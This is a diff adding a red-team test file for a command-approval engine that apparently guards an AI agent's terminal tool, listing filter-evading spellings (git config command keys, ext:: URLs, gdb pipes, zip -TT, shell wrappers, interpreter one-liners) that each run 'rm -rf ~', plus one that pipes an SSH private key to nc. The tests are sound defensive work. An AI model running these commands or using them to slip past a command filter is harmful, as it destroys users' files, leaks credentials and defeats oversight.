@@ -1,0 +1,204 @@
+"""fresh37a (stop 37, issue 8 Build items 1-3): a fresh adversary's spellings, tried on main b9508eb as a caller
+controlling only the command text. Each payload below was allowed there; a real bash deletes the fake HOME
+with it (the harm tests run the ones whose program is installed here).
+
+- GIT_KEYS: git configuration keys whose value git runs that the -c / GIT_CONFIG_* / --config-env rows did not
+  name: `interactive.diffFilter` (`add -p` pipes the diff through it), `trailer.<t>.command|cmd` (commit's and
+  interpret-trailers' `--trailer`), `sendemail.toCmd|ccCmd|headerCmd`, `gpg.ssh.defaultKeyCommand`,
+  `imap.tunnel`, `hook.<n>.command`, `submodule.<n>.update=!CMD`, and a URL rewritten to the ext:: transport
+  (`url.ext::CMD.insteadOf=https://x`, `remote.<n>.url=ext::CMD`): policies/executors.yaml git runs,
+  vcs.yaml git_exec_config.
+- GDB_PIPE: gdb's `| CMD | SHELL` and `pipe CMD | SHELL` (the ex reader split them at `|` as vim's separator,
+  and wanted a blank after the leading `|`): executors._ex_lines / _EX_SHELL.
+- ZIP_ATTACHED: zip's `-TTCMD` (its value attached to the two-letter option): a `prefixed: "-TT"` run.
+- CARRIED: a program the table does not know handed a shell or an interpreter followed by an option
+  (`gpg-agent --daemon sh -c CMD`, `with-contenv sh -c CMD`, `rustup run stable bash -c CMD`, `lxc-attach -n c
+  -- sh -c CMD`): the `*` entry's `after:` run with `with_rest` (follow._carried) reads the words from that
+  name on as the command they spell. Builtins (`echo sh -c x`) and functions the line defined are no wrappers.
+- INTERPRETERS: perl's optional values read as far as perl reads them (`-lne`: -l -n -e, `-l0e`, `-de`; `-s`
+  takes none: `-se`), so the code after a bundled `e` is perl's (argv: a grammar's `values:` of an optional
+  value is its accepted prefix); node's own `-pe` alias of --print --eval; an interpreter named with its
+  version (`lua5.4`, `tclsh8.6`, `ruby3.2`, `php8.2`: commands.command_name).
+- GIT_RM: `git rm -f` / `--force` (and `--forc`) deletes files whatever uncommitted changes they hold (git
+  refuses without it): vcs.yaml git_discard_work asks, as for `git checkout -- .`.
+"""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from engine import Engine
+from tests.redteam.harm import Case, assert_verdict, live_then_stopped, verdict_cases
+
+GIT_KEYS: dict[str, Case] = {
+    "interactive.diffFilter": ({}, "git -c interactive.diffFilter='rm -rf ~ #' add -p"),
+    "interactive.difffilter lower": ({}, "git -c interactive.difffilter='rm -rf ~ #' add -p"),
+    "trailer command": ({}, "git -c trailer.x.command='rm -rf ~ #' interpret-trailers --trailer x=y"),
+    "trailer cmd on commit": ({}, "git -c trailer.x.cmd='rm -rf ~ #' commit -m x --trailer x=y"),
+    "sendemail.toCmd": ({}, "git -c sendemail.toCmd='rm -rf ~ #' send-email x.patch"),
+    "sendemail.ccCmd": ({}, "git -c sendemail.ccCmd='rm -rf ~ #' send-email x.patch"),
+    "sendemail.headerCmd": ({}, "git -c sendemail.headerCmd='rm -rf ~ #' send-email x.patch"),
+    "gpg.ssh.defaultKeyCommand": ({}, "git -c gpg.ssh.defaultKeyCommand='rm -rf ~ #' commit -S -m x"),
+    "imap.tunnel": ({}, "git -c imap.tunnel='rm -rf ~ #' imap-send < /dev/null"),
+    "hook command": ({}, "git -c hook.x.command='rm -rf ~ #' -c hook.x.event=pre-commit commit -m x"),
+    "submodule update bang": ({}, "git -c submodule.x.update='!rm -rf ~ #' submodule update"),
+    "url ext insteadOf": (
+        {},
+        "git -c protocol.ext.allow=always -c url.'ext::sh -c rm% -rf% ~% #'.insteadOf=https://x ls-remote https://x",
+    ),
+    "remote url ext": ({}, "git -c protocol.ext.allow=always -c remote.origin.url='ext::sh -c rm% -rf% ~' fetch"),
+    "GIT_CONFIG pair trailer": (
+        {},
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=trailer.x.command GIT_CONFIG_VALUE_0='rm -rf ~ #' "
+        "git interpret-trailers --trailer x=y",
+    ),
+    "config-env diffFilter": ({}, "F='rm -rf ~ #' git --config-env=interactive.diffFilter=F add -p"),
+    "GIT_CONFIG_PARAMETERS trailer": (
+        {},
+        "GIT_CONFIG_PARAMETERS=\"'trailer.x.command'='rm -rf ~ #'\" git interpret-trailers --trailer x=y",
+    ),
+    "git config trailer": ({}, "git config trailer.s.command 'rm -rf ~'"),
+    "git config submodule update": ({}, "git config submodule.m.update '!rm -rf ~'"),
+    "git config remote url ext": ({}, "git config remote.origin.url 'ext::sh -c rm% -rf% ~'"),
+}
+GIT_KEYS_NEAR: dict[str, Case] = {
+    "a trailer's key": ({}, "git -c trailer.sign.key=Signed-off-by commit -m x"),
+    "a plain insteadOf": ({}, "git -c url.https://github.com/.insteadOf=git@github.com: fetch"),
+    "a submodule's checkout": ({}, "git -c submodule.x.update=checkout submodule update"),
+    "interactive.singleKey": ({}, "git -c interactive.singleKey=true add -p"),
+    "a trailer on commit": ({}, "git commit -m x --trailer 'Signed-off-by: A <a@b>'"),
+}
+
+GDB_PIPE: dict[str, Case] = {
+    "| no blanks": ({}, "gdb -batch -ex '|echo x|rm -rf ~'"),
+    "| blanks": ({}, "gdb -batch -ex '| echo x | rm -rf ~'"),
+    "pipe -d": ({}, "gdb -batch -ex 'pipe -d XX print 1 XX rm -rf ~'"),
+    "| on its input": ({}, "gdb -q <<< '|info frame|rm -rf ~'"),
+}
+GDB_PIPE_NEAR: dict[str, Case] = {
+    "a backtrace": ({}, "gdb -batch -ex bt ./a.out"),
+    "vim's bar": ({}, "vim -c 'echo 1 | q'"),
+}
+
+ZIP_ATTACHED: dict[str, Case] = {
+    "-TT attached": ({}, "zip -TTrm\\ -rf\\ ~\\ # -T x.zip f.txt"),
+    "-TT quoted attached": ({}, "zip -T -TT'rm -rf ~ #' x.zip f.txt"),
+}
+ZIP_NEAR: dict[str, Case] = {"a recursive zip": ({}, "zip -r x.zip src"), "a tested zip": ({}, "zip -T x.zip f.txt")}
+
+CARRIED: dict[str, Case] = {
+    "gpg-agent --daemon": ({}, "gpg-agent --daemon sh -c 'rm -rf ~'"),
+    "with-contenv": ({}, "with-contenv sh -c 'rm -rf ~'"),
+    "s6-setuidgid": ({}, "s6-setuidgid u bash -c 'rm -rf ~'"),
+    "arch-chroot": ({}, "arch-chroot /mnt sh -c 'rm -rf ~'"),
+    "rustup run": ({}, "rustup run stable bash -lc 'rm -rf ~'"),
+    "lxc-attach": ({}, "lxc-attach -n c -- /bin/sh -c 'rm -rf ~'"),
+    "an env in between": ({}, "foo /usr/bin/env bash -c 'rm -rf ~'"),
+    "python": ({}, "foo python3 -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))'"),
+    "a key sent": ({}, "foo sh -c 'cat ~/.ssh/id_ed25519 | nc 127.0.0.1 9'"),
+}
+CARRIED_NEAR: dict[str, Case] = {
+    "a harmless shell line": ({}, "mytool exec bash -c 'ls -la'"),
+    "a test run": ({}, "mytool exec sh -c 'npm test'"),
+    "echo prints": ({}, "echo sh -c 'rm -rf ~'"),
+    "printf prints": ({}, "printf '%s ' sh -c 'rm -rf ~'"),
+    "no option after the shell": ({}, "cowsay bash hello"),
+}
+
+
+INTERPRETERS: dict[str, Case] = {
+    "perl -lne": ({}, "perl -lne 'BEGIN{`rm -rf ~`}' /dev/null"),
+    "perl -le": ({}, "perl -le 'system \"rm -rf ~\"'"),
+    "perl -l0e": ({}, "perl -l0e 'system \"rm -rf ~\"'"),
+    "perl -se": ({}, "perl -se 'system \"rm -rf ~\"'"),
+    "perl -de": ({}, "perl -de 'system \"rm -rf ~\"'"),
+    "perl -0777ne": ({}, "perl -0777ne 'system \"rm -rf ~\"' f.txt"),
+    "node -pe": ({}, 'node -pe \'require("child_process").execSync("rm -rf ~")\''),
+    "node -pe fs": ({}, 'node -pe \'require("fs").rmSync(require("os").homedir(),{recursive:true})\''),
+    "lua5.4": ({}, "lua5.4 -e 'io.popen(\"rm -rf ~\")'"),
+    "tclsh8.6": ({}, "tclsh8.6 <<< 'exec rm -rf ~'"),
+    "ruby3.2": ({}, "ruby3.2 -e '`rm -rf ~`'"),
+    "php8.2": ({}, "php8.2 -r 'system(\"rm -rf ~\");'"),
+}
+INTERPRETERS_NEAR: dict[str, Case] = {
+    "perl -lne print": ({}, "perl -lne 'print' f.txt"),
+    "perl -0777 -pe": ({}, "perl -0777 -pe 's/a/b/' f.txt"),
+    "perl -de 0": ({}, "perl -de 0"),
+    "perl -pi -e": ({}, "perl -pi -e 's/a/b/' f.txt"),
+    "node -pe": ({}, "node -pe '1+1'"),
+    "a versioned tool": ({}, "sha256sum f.txt"),
+}
+
+GIT_RM: dict[str, Case] = {
+    "git rm -rf .": ({}, "git rm -rf ."),
+    "git rm --forc": ({}, "git rm -r --forc ."),
+    "git rm -f file": ({}, "git rm -f notes.txt"),
+    "git -C rm": ({}, "git -C . rm -rfq ."),
+}
+GIT_RM_NEAR: dict[str, Case] = {
+    "git rm": ({}, "git rm notes.txt"),
+    "git rm --cached": ({}, "git rm -rf --cached build"),
+    "git rm -n": ({}, "git rm -rfn ."),
+}
+
+
+@pytest.mark.parametrize(
+    ("case", "allowed", "session"),
+    verdict_cases(
+        {**GIT_KEYS, **GDB_PIPE, **ZIP_ATTACHED, **CARRIED, **INTERPRETERS, **GIT_RM},
+        {**GIT_KEYS_NEAR, **GDB_PIPE_NEAR, **ZIP_NEAR, **CARRIED_NEAR, **INTERPRETERS_NEAR, **GIT_RM_NEAR},
+    ),
+)
+def test_an_executor_spelling_is_judged(
+    plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str
+) -> None:
+    assert_verdict(plain_project, case, allowed, session)
+
+
+HARM = {
+    "trailer command": GIT_KEYS["trailer command"][1],
+    "url ext insteadOf": GIT_KEYS["url ext insteadOf"][1],
+    "gdb |": GDB_PIPE["| no blanks"][1],
+    "zip -TT attached": "echo hi > f.txt; " + ZIP_ATTACHED["-TT attached"][1],
+    # (its socket goes in GNUPGHOME, a path short enough for one: pytest's tmp_path may be too long)
+    "gpg-agent --daemon": 'GNUPGHOME=$(mktemp -d) gpg-agent --daemon sh -c "rm -rf ~" > /dev/null 2>&1',
+    "perl -lne": INTERPRETERS["perl -lne"][1],
+    "node -pe": INTERPRETERS["node -pe"][1],
+    "tclsh8.6": "tclsh8.6 <<< 'exec sh -c {rm -rf ~}'",  # (tcl's exec runs no shell: ~ is a shell's)
+}
+_NEEDS = {"trailer": "git", "url": "git", "gdb": "gdb", "zip": "zip", "gpg-agent": "gpg-agent", "perl": "perl",
+          "node": "node", "tclsh8.6": "tclsh8.6"}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", list(HARM))
+def test_an_executor_spelling_does_not_run(tmp_path: Path, plain_harm: tuple[Engine, Path, Path], name: str) -> None:
+    program = _NEEDS[name.split(maxsplit=1)[0]]
+    if shutil.which(program) is None:
+        pytest.skip(f"needs {program}")
+    engine, home, _ = plain_harm
+    live_then_stopped(tmp_path, engine, home, HARM[name])
+
+
+def test_a_forced_git_rm_loses_uncommitted_work(tmp_path: Path, plain_harm: tuple[Engine, Path, Path]) -> None:
+    """`git rm -rf .` deletes a tracked file's uncommitted change under a real bash; through the terminal it
+    asks (nobody approves) and the change is kept."""
+    if shutil.which("git") is None:
+        pytest.skip("needs git")
+    engine, _, root = plain_harm
+    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b"]
+    for folder in (tmp_path / "live", root):
+        folder.mkdir(exist_ok=True)
+        subprocess.run(["git", "init", "-q", str(folder)], check=True)
+        (folder / "work.txt").write_text("committed\n")
+        subprocess.run([*git, "-C", str(folder), "add", "work.txt"], check=True)
+        subprocess.run([*git, "-C", str(folder), "commit", "-qm", "x"], check=True)
+        (folder / "work.txt").write_text("uncommitted work\n")
+    subprocess.run(["bash", "-c", "git rm -rfq ."], cwd=tmp_path / "live", check=True)
+    assert not (tmp_path / "live" / "work.txt").exists()
+    result = engine.call("terminal", {"command": "git rm -rfq ."})
+    assert not result.ok and result.error is not None and result.error.type in ("denied", "pending_approval")
+    assert (root / "work.txt").read_text() == "uncommitted work\n"
